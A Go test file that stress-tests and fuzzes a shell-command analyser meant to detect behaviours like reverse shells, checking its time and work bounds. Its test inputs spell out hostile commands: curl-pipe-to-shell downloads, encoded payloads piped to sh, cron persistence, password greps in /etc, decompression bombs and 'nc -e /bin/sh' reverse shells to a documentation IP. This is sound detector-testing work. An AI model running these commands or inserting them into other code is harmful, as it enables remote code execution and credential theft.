package command

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// hostileSize is the size of the hostile texts in bytes, several times what is read.
const hostileSize = 100 << 10

// hostileTexts are texts meant to break or to slow the reader.
func hostileTexts() map[string]string {
	fill := func(s string) string { return strings.Repeat(s, hostileSize/len(s)) }
	return map[string]string{
		"substitutions":    fill("$("),
		"quoted subst":     fill(`"$(`),
		"parens":           fill("( "),
		"arithmetic":       fill("$(( "),
		"unary":            "echo $((" + fill("-") + "1))",
		"braces":           fill("{ "),
		"param default":    fill("${a:-"),
		"backticks":        fill("`"),
		"escaped ticks":    fill("\\`"),
		"ifs":              fill("if "),
		"whiles":           fill("while true; do "),
		"cases":            fill("case x in x) "),
		"functions":        fill("f() { "),
		"negations":        fill("! "),
		"times":            fill("time "),
		"pipes":            fill("a|"),
		"pipes closed":     fill("a|") + "a",
		"curl pipes":       fill("curl x|") + "sh",
		"ands":             fill("a&&") + "a",
		"semicolons":       fill("id;"),
		"assignments":      "A=aaaaaaaaaaaaaaaa;" + fill("A=$A$A$A$A;") + "$A",
		"append":           fill("A+=$A;"),
		"quotes":           fill("'"),
		"double quotes":    fill(`"`),
		"unclosed":         "echo '" + fill("a"),
		"heredocs":         fill("<<A "),
		"heredoc":          "cat <<A | sh\n" + fill("id\n"),
		"redirections":     "x " + fill(">a "),
		"long word":        fill("a"),
		"base64":           "echo " + fill("QUJD"),
		"base64 words":     fill("QUJDREVGR0hJSktMTU5PUFFSU1RVVlda "),
		"nested sh":        fill("sh -c "),
		"nested env":       fill("env A=1 "),
		"nested sudo":      fill("sudo "),
		"nested eval":      fill("eval "),
		"urls":             fill("http://a.b/ "),
		"colons":           fill(":"),
		"schemes":          fill("://"),
		"dots":             fill("1."),
		"python":           "python3 -c \"" + fill("os.system('id');") + "\"",
		"python list":      "python3 -c \"" + fill("call([") + "\"",
		"brace list":       "echo {" + fill("a,") + "}",
		"brace nest":       fill("{a,") + fill("}"),
		"brace range":      "for i in {1..999999999}; do echo $i; done",
		"globs":            fill("/???/?* "),
		"nul":              fill("a\x00;"),
		"invalid utf8":     fill("\xff\xfe\x80 "),
		"escapes":          fill("\x1b[31m"),
		"dollar quotes":    "echo $'" + fill(`\x41`) + "'",
		"cron":             "echo '" + fill("* * * * * curl x|sh\n") + "' | crontab -",
		"tests":            fill("[[ ( "),
		"subscripts":       fill("${a[$b["),
		"array":            "a=(" + fill("b ") + ")",
		"let":              fill("let a=a+a;"),
		"extglob":          fill("@(a|"),
		"proc subst":       fill("<("),
		"slices":           "A=abc; echo " + fill("${A:0:1}"),
		"replacements":     "A=aaaaaaaaaaaaaaaaaaaaaaaa; " + fill("A=${A//a/aa};"),
		"tr":               "echo x" + fill("| tr a b"),
		"rev":              "echo " + strings.Repeat("x", 1<<14) + strings.Repeat("|rev", 1<<10),
		"loops":            fill("for i in a b c d e f; do ") + fill("done;"),
		"curl options":     "curl " + fill("-o a "),
		"find execs":       "find / " + fill("-exec id ; "),
		"crlf":             fill("id\r\n"),
		"comments":         fill("#\n"),
		"shebang":          "#!" + fill("/"),
		"dots in domains":  fill("a."),
		"megabyte":         strings.Repeat("a b;", 1<<18),
		"quoted sh":        nestedQuotes(12),
		"sh in sh":         "sh -c '" + strings.Repeat("sh -c \"", 4000),
		"mixed brackets":   fill("[({$((\"`'"),
		"gzip bombs":       bombs("gunzip", gzipOf(1<<20)),
		"gzip words":       "echo " + fill(base64.StdEncoding.EncodeToString(gzipOf(1<<20))+" "),
		"bzip bombs":       bombs("bunzip2", bzipBomb),
		"base64 in base64": base64Nest(12),
		"base64 pipes":     fill("echo aWQ7aWQ7aWQ7aWQ7aWQ7aWQ=|base64 -d|sh;"),
		"hex bombs":        fill("echo 6964206964206964206964206964|xxd -r -p|sh\n"),
		"long pipes of tr": "echo " + strings.Repeat("x", 8<<10) + strings.Repeat("|tr a-zA-Z b-za-zA-Z", 4000),
		"shell paths":      "vim " + fill("-c ':!/bin/sh' "),
		"almost shells":    "vim " + fill("/bin/shsh/bin/bashbash "),
		"greps":            fill("grep -r password /etc;"),
		"urls in one word": "curl " + fill("http://a.b:1/?(((([{"),
		"wallets":          fill(strings.Repeat("4", 95) + " "),
		"variables":        fill("A=1;") + fill("$A"),
		"many variables":   manyVariables(),
		"files":            fill("echo a>b;sh b;"),
		"downloads":        fill("curl -o /tmp/a http://203.0.113.1/;/tmp/a;"),
		"python spawns":    "python3 -c 'import os;" + fill(`os.system("sh -c id");`) + "'",
		"php ticks":        "php -r '" + fill("`id`;") + "'",
		"awk":              "awk '" + fill(`BEGIN{system("id")}`) + "'",
		"evals":            strings.Repeat("eval 'eval \"", 3000),
		"tees":             "echo a " + fill("|tee /etc/cron.d/x "),
		"subshell pipes":   fill("(id|id)|"),
		"xargs":            "find / " + strings.Repeat("| xargs -I{} sh -c 'curl {}|sh' ", 3000),
		"unicode":          fill("ｃｕｒｌ "),
		"backslashes":      fill(`\`),
		"carriage":         fill("\r"),
	}
}

// nestedQuotes is sh -c in sh -c, each level quoted for the one around it.
func nestedQuotes(levels int) string {
	text := "id"
	for range levels {
		text = "sh -c " + "'" + strings.ReplaceAll(text, "'", `'\''`) + "'"
	}
	return text
}

func base64Nest(levels int) string {
	text := "curl http://203.0.113.1/x | sh"
	for range levels {
		text = "echo " + base64.StdEncoding.EncodeToString([]byte(text)) + " | base64 -d | sh"
	}
	return text
}

// gzipOf is a packed text of n bytes that never ends being shell.
func gzipOf(n int) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write(bytes.Repeat([]byte("id;"), n/3))
	_ = w.Close()
	return b.Bytes()
}

// bzipBomb is how `head -c 900000 /dev/zero | bzip2` begins; the block it
// announces is large.
var bzipBomb = []byte{
	0x42, 0x5a, 0x68, 0x39, 0x31, 0x41, 0x59, 0x26, 0x53, 0x59, 0x43, 0x2d, 0x17, 0x7e, 0x00, 0x00,
	0x0d, 0x40, 0x00, 0xc0, 0x00, 0x00, 0x04, 0x00, 0x20, 0x00, 0x30, 0xcd, 0x34, 0x19, 0x5e, 0x41,
}

// bombs unpacks a payload in every line.
func bombs(tool string, packed []byte) string {
	line := "echo " + base64.StdEncoding.EncodeToString(packed) + "|base64 -d|" + tool + "|sh\n"
	return strings.Repeat(line, max(1, hostileSize/len(line)))
}

func manyVariables() string {
	var b strings.Builder
	for i := range 8000 {
		fmt.Fprintf(&b, "V%d=%d;", i, i)
	}
	return b.String()
}

// hostileVectors are argument vectors made of a hostile text.
func hostileVectors(text string) [][]string {
	return [][]string{{"sh", "-c", text}, {text}, {"python3", "-c", text}, {"x", text}, strings.Split(text, " ")}
}

// TestReadHostile holds that no text makes the reader panic or run away. The
// bound of time is generous because the machine may be busy; the benchmark
// gives the figures.
func TestReadHostile(t *testing.T) {
	t.Parallel()
	for name, text := range hostileTexts() {
		t.Run(name, func(t *testing.T) {
			for _, args := range hostileVectors(text) {
				start := time.Now()
				r := Read(args, false)
				if d := time.Since(start); d > 20*time.Second {
					t.Errorf("Read(%.20q...) took %v", args[0], d)
				}
				checkBounds(t, r)
			}
			checkBounds(t, ReadScript(text))
		})
	}
}

// TestReadWork holds the work itself to its budget: what is given to the parser,
// weighed, searched and unpacked is counted where it happens.
func TestReadWork(t *testing.T) {
	t.Parallel()
	var worst work
	for name, text := range hostileTexts() {
		for _, args := range hostileVectors(text) {
			s := newScan()
			s.read(args)
			w := s.work
			for _, bound := range []struct {
				what     string
				got, max int
			}{
				{"bytes parsed", w.parsed, maxText + maxReread + len(cutMark)},
				{"commands weighed", w.visits, 6 * maxNodes},
				{"bytes searched", w.scanned, maxScanned},
				{"bytes unpacked", w.unpacked, maxUnpacked},
			} {
				if bound.got > bound.max {
					t.Errorf("%s, %.20q: %d %s, want at most %d", name, args[0], bound.got, bound.what, bound.max)
				}
			}
			worst.parsed, worst.visits = max(worst.parsed, w.parsed), max(worst.visits, w.visits)
			worst.scanned, worst.unpacked = max(worst.scanned, w.scanned), max(worst.unpacked, w.unpacked)
			if len(text) > maxText+maxReread && len(args) == 3 && !s.finish().Truncated {
				t.Errorf("%s, %.20q: %d bytes were not called truncated", name, args[0], len(text))
			}
		}
	}
	t.Logf("most work: %+v", worst)
}

// TestCutMiddle holds that the beginning and the end of a long text are read.
func TestCutMiddle(t *testing.T) {
	t.Parallel()
	filler := strings.Repeat("echo 'a b c'\n", 20_000)
	for name, text := range map[string]string{
		"at the end":       filler + "nc -e /bin/sh 203.0.113.1 1",
		"at the beginning": "nc -e /bin/sh 203.0.113.1 1\n" + filler,
		"in open quotes":   "echo 'it; " + strings.Repeat("x ", 60_000) + "';\nnc -e /bin/sh 203.0.113.1 1",
	} {
		for _, args := range [][]string{{"sh", "-c", text}, {text}} {
			if r := Read(args, false); !r.Has(ReverseShell) || !r.Truncated {
				t.Errorf("%s, %d arguments: %v, truncated %v", name, len(args), names(r), r.Truncated)
			}
		}
	}
	for limit := range 40 {
		if got := cutMiddle(strings.Repeat("a;", 40), limit); len(got) > limit {
			t.Errorf("cutMiddle to %d gives %d bytes", limit, len(got))
		}
	}
}

func checkBounds(t *testing.T, r Reading) {
	t.Helper()
	if len(r.Indicators) > MaxIndicators || len(r.Decoded) > maxDecoded || len(r.Hits) > len(traits) {
		t.Errorf("out of bounds: %d indicators, %d payloads, %d hits", len(r.Indicators), len(r.Decoded), len(r.Hits))
	}
	seen := map[Behavior]bool{}
	for i, h := range r.Hits {
		if seen[h.Behavior] {
			t.Errorf("%s twice", h.Behavior)
		}
		seen[h.Behavior] = true
		if h.Behavior.Sentence() == "" {
			t.Errorf("unknown behaviour %q", h.Behavior)
		}
		if len(h.Text) > maxHitText+len("…") || !utf8.ValidString(h.Text) {
			t.Errorf("%s: text of %d bytes, valid %v", h.Behavior, len(h.Text), utf8.ValidString(h.Text))
		}
		if i > 0 && r.Hits[i-1].Class < h.Class {
			t.Errorf("%s after %s: not strongest first", h.Behavior, r.Hits[i-1].Behavior)
		}
	}
}

// FuzzRead holds that no argument vector breaks the bounds.
func FuzzRead(f *testing.F) {
	lines, err := loadCorpus("testdata/corpus.ndjson")
	if err != nil {
		f.Fatal(err)
	}
	for i, l := range lines {
		if i%4 == 0 {
			f.Add(strings.Join(l.Args, "\x00"), i%8 == 0)
		}
	}
	f.Add("sh\x00-c\x00$'\\x", true)
	f.Add("bash\x00-c\x00${a:${b", true)
	f.Fuzz(func(t *testing.T, joined string, truncated bool) {
		args := strings.Split(joined, "\x00")
		r := Read(args, truncated)
		checkBounds(t, r)
		if truncated && !r.Truncated {
			t.Error("lost that the arguments were truncated")
		}
		checkBounds(t, ReadScript(joined))
		checkBounds(t, r.Merge(ReadScript(joined)))
		for _, i := range r.Indicators {
			Defang(i.Value)
		}
	})
}
